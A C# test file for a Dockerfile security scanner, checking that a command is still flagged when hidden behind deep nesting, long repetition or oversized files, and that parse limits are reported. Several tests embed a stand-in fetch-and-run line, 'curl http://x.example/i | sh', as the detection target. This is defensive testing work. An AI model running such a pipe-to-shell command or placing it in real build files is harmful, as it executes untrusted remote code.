using ShiftLeft.Docker.Syntax;
using ShiftLeft.Policy;
using ShiftLeft.Text;

namespace ShiftLeft.Tests.Hostile;

/// <summary>Nothing of a Dockerfile hides behind its size or depth: it is judged, or said not to be.</summary>
public sealed class LargeDockerfileTests
{
    const string Download = "curl http://x.example/i | sh";

    [Theory]
    [InlineData(":;", 20_000, "")]
    [InlineData("env A=1 ", 9, "")]
    [InlineData("nice ", 40, "")]
    [InlineData("( ", 50, " )")]
    [InlineData("(", 2, ")")]
    [InlineData("(", 4, ")")]
    public void A_command_is_found_however_much_stands_before_it(string before, int times, string after)
    {
        var report = Run(HostileText.Repeat(before, times) + Download + HostileText.Repeat(after, times));
        Assert.Single(report.Of("SL1005"));
        Assert.Empty(report.Of("SL0912"));
    }

    [Theory]
    [InlineData(":;", 100_001, "", "more than 100,000 commands")]
    [InlineData("nice ", 300, "", "more than 50 commands run one another")]
    [InlineData("( ", 100, " )", "commands are nested more than 60 deep")]
    [InlineData("$(", 100, ")", "commands are nested more than 60 deep")]
    [InlineData("eval ", 60, "", "commands are nested more than 60 deep")]
    public void Where_there_is_more_than_is_read_that_is_said(string before, int times, string after, string expected)
    {
        var report = Run(HostileText.Repeat(before, times) + Download + HostileText.Repeat(after, times));
        Assert.Contains(expected, Assert.Single(report.Of("SL0912")).Message);
        Assert.Equal(Outcome.Failed, report.Verdict.Outcome);
    }

    [Fact]
    public void Arithmetic_holds_no_commands() => Assert.Empty(Run("if (( $(wc -l f | cut -d' ' -f1) > 3 && a + 1 < b )); then true; fi").Of("SL0912"));

    [Fact]
    public void A_text_that_no_shell_takes_is_counted() => Assert.Equal("unread-shell", Assert.Single(Run("if true; fi").LeftOut).Key);

    [Fact]
    public void A_file_is_read_up_to_a_number_of_words()
    {
        var text = "FROM debian:13.1\nEXPOSE 22\nEXPOSE " + HostileText.Repeat("22 22 22 22 22 22 22 22 22 22 \\\n", 20_000) + "1\nRUN " + Download + "\n";
        var report = HostileText.ScanDockerfile(text);
        var unread = Assert.Single(report.Of("SL0912"));
        Assert.Equal(2, unread.Location.Start.Line);
        Assert.Equal("the file has more than 50,000 instructions or 200,000 words; from here on it is not read", unread.Message);
        Assert.Single(report.Of("SL4001"));
        Assert.Empty(report.Of("SL1005"));
        Assert.Equal(Outcome.Failed, report.Verdict.Outcome);
    }

    [Fact]
    public void What_is_not_read_is_part_of_the_tree()
    {
        var text = "FROM debian:13.1\n# a\n" + HostileText.Repeat("LABEL a=b\n", 50_001) + "# b\n";
        var syntax = DockerfileParser.Parse(new("Dockerfile", text));
        Assert.NotNull(syntax.Excess);
        Assert.Equal(50_000, syntax.Instructions.Length);
        Assert.Equal(text, syntax.ToString());
    }

    static Report Run(string command) => HostileText.ScanDockerfile($"FROM debian:13.1\nRUN {command}\n");
}
